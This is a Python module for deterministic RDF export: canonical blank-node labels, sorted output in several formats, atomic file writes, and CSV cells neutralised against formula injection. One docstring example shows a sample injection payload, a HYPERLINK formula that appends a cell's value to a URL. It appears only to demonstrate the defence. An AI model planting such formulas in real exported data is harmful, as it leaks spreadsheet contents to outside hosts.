"""Deterministic RDF export: the same data gives the same bytes, whatever the hash seed.

Blank nodes get canonical labels (``rdflib.compare``), statements are sorted, and files
are written atomically (a temporary file in the same folder, then a rename).

Examples
--------
>>> from rdflib import Dataset, URIRef, Literal
>>> ds = Dataset()
>>> _ = ds.graph(URIRef("urn:g")).add((URIRef("urn:s"), URIRef("urn:p"), Literal("o")))
>>> print(serialize_dataset(ds, "nq"), end="")
<urn:s> <urn:p> "o" <urn:g> .
"""

from __future__ import annotations

import contextlib
import functools
import json
import os
import re
import tempfile
from collections.abc import Callable
from pathlib import Path
from rdflib import BNode, Dataset, Graph, URIRef
from rdflib.compare import to_canonical_graph
from rdflib.plugins.serializers.nquads import _nq_row
from rdflib.plugins.serializers.nt import _nt_row

from .errors import OutputError, UnknownFormat
from .loading import default_graph

__all__ = ["EXPORT_FORMATS", "serialize_dataset", "write_atomically", "canonical_graphs", "formula_safe", "csv_row"]

#: Export format names and what each keeps: True if named graphs survive.
EXPORT_FORMATS: dict[str, bool] = {"ttl": False, "trig": True, "nq": True, "nt": False, "jsonld": True}
_ALIASES = {"turtle": "ttl", "nquads": "nq", "ntriples": "nt", "json-ld": "jsonld"}


def canonical_graphs(dataset: Dataset, prefixes: dict[str, str] | None = None) -> list[Graph]:
    """Return the dataset's non-empty graphs, sorted by name, with blank nodes relabelled
    canonically and uniquely across graphs (``g<i>b<j>``)."""
    graphs = sorted(
        (g for g in dataset.graphs() if len(g)),
        key=lambda g: (not isinstance(g.identifier, URIRef), str(g.identifier)),
    )
    result = []
    for index, graph in enumerate(graphs):
        # Canonicalising asks many small questions of the graph: ask them in memory,
        # after one read of the graph from its store (which may be a remote server).
        local = Graph()
        local += graph
        canonical = to_canonical_graph(local)
        bnodes = sorted(
            {term for triple in canonical for term in triple if isinstance(term, BNode)}
        )
        rename = {b: BNode(f"g{index}b{number}") for number, b in enumerate(bnodes)}
        identifier = graph.identifier if isinstance(graph.identifier, URIRef) else None
        out = Graph(identifier=identifier)
        for prefix, iri in (prefixes or {}).items():
            out.bind(prefix, iri)
        for s, p, o in canonical:
            out.add((rename.get(s, s), p, rename.get(o, o)))
        result.append(out)
    return result


def _lines_nq(graphs: list[Graph], *, quads: bool) -> str:
    rows: set[str] = set()
    for graph in graphs:
        for triple in graph:
            if quads and graph.identifier is not None and isinstance(graph.identifier, URIRef):
                rows.add(_nq_row(triple, graph.identifier))
            else:
                rows.add(_nt_row(triple))
    return "".join(sorted(rows))


def _turtle(graphs: list[Graph], prefixes: dict[str, str]) -> str:
    union = Graph()
    for prefix, iri in prefixes.items():
        union.bind(prefix, iri)
    for graph in graphs:
        union += graph
    return union.serialize(format="longturtle")


def _trig(graphs: list[Graph], prefixes: dict[str, str]) -> str:
    declared: set[str] = set()
    blocks = []
    for graph in graphs:
        body = Graph()
        for prefix, iri in prefixes.items():
            body.bind(prefix, iri)
        body += graph
        lines = body.serialize(format="longturtle").splitlines()
        declared.update(ln for ln in lines if ln.startswith("PREFIX "))
        content = [ln for ln in lines if not ln.startswith("PREFIX ")]
        inner = "\n".join(("    " + ln) if ln.strip() else "" for ln in content).strip("\n")
        name = graph.identifier.n3() if graph.identifier is not None else ""
        blocks.append(f"{name} {{\n{inner}\n}}\n" if name else f"{{\n{inner}\n}}\n")
    header = "".join(f"{line}\n" for line in sorted(declared))
    return header + "\n" + "\n".join(blocks)


def _sort_json(value: object) -> object:
    if isinstance(value, dict):
        return {k: _sort_json(value[k]) for k in sorted(value)}
    if isinstance(value, list):
        items = [_sort_json(v) for v in value]
        return sorted(items, key=lambda v: json.dumps(v, sort_keys=True, ensure_ascii=False))
    return value


def _jsonld(graphs: list[Graph], prefixes: dict[str, str]) -> str:
    dataset = Dataset()
    for graph in graphs:
        target = dataset.graph(graph.identifier) if graph.identifier else default_graph(dataset)
        for triple in graph:
            target.add(triple)
    data = json.loads(dataset.serialize(format="json-ld", context=dict(sorted(prefixes.items()))))
    if isinstance(data, dict) and "@graph" in data:
        data["@graph"] = _sort_json(data["@graph"])
    else:
        data = _sort_json(data)
    return json.dumps(data, indent=2, ensure_ascii=False, sort_keys=True) + "\n"


def serialize_dataset(
    dataset: Dataset, format: str, *, prefixes: dict[str, str] | None = None
) -> str:
    """Serialize a dataset deterministically.

    Parameters
    ----------
    dataset : rdflib.Dataset
    format : str
        ``ttl`` (all graphs merged), ``trig`` (named graphs kept), ``nq`` (named graphs
        kept), ``nt`` (merged), ``jsonld`` (named graphs kept).
    prefixes : dict, optional
        Prefixes to use in Turtle, TriG and JSON-LD output.

    Raises
    ------
    UnknownFormat
    """
    name = _ALIASES.get(format.lower(), format.lower())
    writers: dict[str, Callable[[list[Graph], dict[str, str]], str]] = {
        "ttl": _turtle,
        "trig": _trig,
        "nq": lambda graphs, _: _lines_nq(graphs, quads=True),
        "nt": lambda graphs, _: _lines_nq(graphs, quads=False),
        "jsonld": _jsonld,
    }
    if name not in writers:
        raise UnknownFormat(
            f"unknown export format {format!r}; use one of {', '.join(EXPORT_FORMATS)}."
        )
    prefixes = prefixes or {}
    return writers[name](canonical_graphs(dataset, prefixes), prefixes)


# --------------------------------------------------------------------------- CSV cells

#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def formula_safe(text: str) -> str:
    """``text`` as a spreadsheet shows it as text, never as a formula.

    A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
    gets a leading single quote, as OWASP recommends against CSV injection (the
    spreadsheet shows the quote; the rest is kept). A plain number such as ``-3.5``
    or ``+1e6`` is data, not a formula, and stays as it is.

    Examples
    --------
    >>> print(formula_safe('=HYPERLINK("http://example.org/?"&A1,"click")'))
    '=HYPERLINK("http://example.org/?"&A1,"click")
    >>> print(formula_safe("@SUM(A1)"), formula_safe(chr(9) + "=1") == "'" + chr(9) + "=1")
    '@SUM(A1) True
    >>> formula_safe("-3.5"), formula_safe("+12"), formula_safe("CATL"), formula_safe("")
    ('-3.5', '+12', 'CATL', '')
    """
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_row(cells, *, raw: bool = False, delimiter: str = ",") -> str:
    """One CSV record, without its line end: every cell through :func:`formula_safe`
    (unless ``raw``), a neutralised cell always in double quotes, other cells quoted
    only where they need it (as Python's ``csv`` module does); None is an empty cell.

    Examples
    --------
    >>> print(csv_row(["CATL", "=1+2", "a,b", 'a "b" c', None, "-3.5"]))
    CATL,"'=1+2","a,b","a ""b"" c",,-3.5
    >>> csv_row(["=1+2"], raw=True)
    '=1+2'
    """
    out = []
    for cell in cells:
        text = "" if cell is None else str(cell)
        safe = text if raw else formula_safe(text)
        if safe != text or any(c in safe for c in (delimiter, '"', "\r", "\n")):
            safe = '"' + safe.replace('"', '""') + '"'
        out.append(safe)
    if out == [""]:
        return '""'  # a lone empty cell, which an empty line would lose
    return delimiter.join(out)


def write_atomically(path: str | Path, text: str | bytes) -> Path:
    """Write ``text`` to ``path`` through a temporary file and a rename, so a reader never
    sees half a file and a failed write leaves the old file in place.

    Raises
    ------
    OutputError
        The folder does not exist or cannot be written.
    """
    path = Path(path)
    folder = path.parent if str(path.parent) else Path(".")
    if not folder.is_dir():
        raise OutputError(f"{path}: the folder {folder} does not exist; create it first.")
    if path.is_dir():
        raise OutputError(f"{path}: is a folder; give a file name.")
    data = text.encode("utf-8") if isinstance(text, str) else text
    try:
        fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=folder)
    except OSError as exc:
        raise OutputError(f"{path}: cannot write in {folder}: {exc.strerror}.") from None
    try:
        # mkstemp creates the file private (0600); give it the mode a plain open() would.
        if hasattr(os, "fchmod"):
            os.fchmod(fd, 0o666 & ~_umask())
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
        os.replace(tmp, path)
    except BaseException:
        with contextlib.suppress(OSError):
            os.unlink(tmp)
        raise
    return path


@functools.lru_cache(maxsize=1)
def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask
